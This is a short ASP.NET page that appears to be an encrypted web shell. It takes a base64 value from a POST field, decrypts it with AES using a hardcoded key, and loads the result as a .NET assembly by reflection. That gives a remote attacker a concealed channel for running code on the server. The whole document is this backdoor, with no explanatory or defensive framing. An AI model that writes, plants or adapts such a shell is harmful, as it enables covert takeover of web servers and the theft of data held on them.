<%@ Page Language="C#" %>
<%
byte[] k = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
byte[] blob = System.Convert.FromBase64String(Request.Form["b"]);
blob = new System.Security.Cryptography.AesManaged().CreateDecryptor(k, k).TransformFinalBlock(blob, 0, blob.Length);
var asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { blob });
%>
